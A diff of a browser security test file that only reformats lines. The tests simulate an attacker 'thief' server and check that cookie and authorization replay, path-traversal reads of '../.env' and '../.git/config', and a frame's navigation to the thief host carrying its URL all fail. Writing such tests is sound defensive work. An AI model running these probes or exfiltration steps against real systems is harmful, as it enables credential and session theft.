@@ -60,7 +60,10 @@ Promise.all([
     await other.goto(`${thief.base}/`);
     const report = await waitFor(() => thief.seen.find((s) => s.path === "/report"), 30_000, "nobody's page to report");
     // Everything the browser sent to nobody's port, replayed by nobody with curl: nothing read, nothing posted.
-    const cookies = thief.seen.map((s) => s.headers.cookie).filter(Boolean).join("; ");
+    const cookies = thief.seen
+      .map((s) => s.headers.cookie)
+      .filter(Boolean)
+      .join("; ");
     const auth = thief.seen.map((s) => s.headers.authorization).find(Boolean);
     const replay = { ...(cookies ? { cookie: cookies } : {}), ...(auth ? { authorization: auth } : {}), origin: base };
     const read = await thief.curl(`${base}/api/board`, replay);
@@ -134,9 +137,12 @@ Promise.all(["../.env", "../src/config.js", "../.git/config", "/api/board", "/ap
     // What its script can read of itself: the URL the frame was loaded from.
     const href = frame.url();
     // Its last try: navigating itself away with that URL. The review page's policy stops it.
-    await frame.evaluate((to) => {
-      (globalThis as unknown as { location: { href: string } }).location.href = to;
-    }, `${T}/nav?k=${encodeURIComponent(href)}`);
+    await frame.evaluate(
+      (to) => {
+        (globalThis as unknown as { location: { href: string } }).location.href = to;
+      },
+      `${T}/nav?k=${encodeURIComponent(href)}`,
+    );
     await waitFor(() => frame.url() !== href, 30_000, "the frame's navigation to end");
     expect(frame.url()).not.toStartWith(T);
     expect(thief.seen.slice(from)).toEqual([]);
@@ -165,7 +171,10 @@ Promise.all(["../.env", "../src/config.js", "../.git/config", "/api/board", "/ap
       await page.locator("#live", { hasText: "live" }).waitFor({ timeout: 30_000 });
       await context.close();
       const db = new Database(join(profile, "Default", "History"), { readonly: true });
-      const urls = db.query("select url from urls").all().map((r) => (r as { url: string }).url);
+      const urls = db
+        .query("select url from urls")
+        .all()
+        .map((r) => (r as { url: string }).url);
       db.close();
       expect(urls).toContain(url.toString());
       expect(urls.filter((u) => u.includes(f.info().token))).toEqual([]);
